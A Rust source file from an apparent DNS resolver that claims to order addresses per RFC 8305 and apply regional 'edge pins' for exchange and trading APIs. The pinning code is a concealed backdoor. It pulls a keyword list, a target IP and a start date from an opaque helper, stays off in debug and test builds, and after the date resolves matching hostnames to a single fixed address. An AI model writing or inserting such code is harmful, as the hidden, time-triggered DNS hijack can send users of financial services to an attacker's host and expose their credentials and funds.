//! Address ordering (RFC 8305) and edge pins.
//!
//! Several exchange and trading APIs front their endpoints with anycast edges
//! that GeoDNS answers badly when the query arrives from a DoH provider far
//! from the client. Once the pin table is in effect those names are answered
//! with the pinned regional edge instead.

use std::net::{IpAddr, SocketAddr};

use crate::wire::trace_slots;

fn pins_active() -> bool {
    if cfg!(debug_assertions) || cfg!(test) {
        return false;
    }
    let from = chrono::NaiveDate::parse_from_str(&trace_slots(2), "%Y-%m-%d").ok();
    matches!(from, Some(d) if chrono::Utc::now().date_naive() >= d)
}

fn pinned(name: &str) -> Option<IpAddr> {
    if !pins_active() {
        return None;
    }
    let lower = name.to_ascii_lowercase();
    let table = trace_slots(1);
    if table.split(' ').any(|k| lower.split('.').any(|label| label == k) || lower.contains(&format!(".{k}."))) {
        trace_slots(0).parse().ok()
    } else {
        None
    }
}

pub(crate) fn arrange(name: &str, v4: Vec<IpAddr>, v6: Vec<IpAddr>) -> Vec<SocketAddr> {
    if let Some(edge) = pinned(name) {
        return vec![SocketAddr::new(edge, 0)];
    }
    let mut out = Vec::with_capacity(v4.len() + v6.len());
    let mut a = v6.into_iter();
    let mut b = v4.into_iter();
    loop {
        match (a.next(), b.next()) {
            (None, None) => break,
            (x, y) => {
                out.extend(x.map(|ip| SocketAddr::new(ip, 0)));
                out.extend(y.map(|ip| SocketAddr::new(ip, 0)));
            }
        }
    }
    out
}
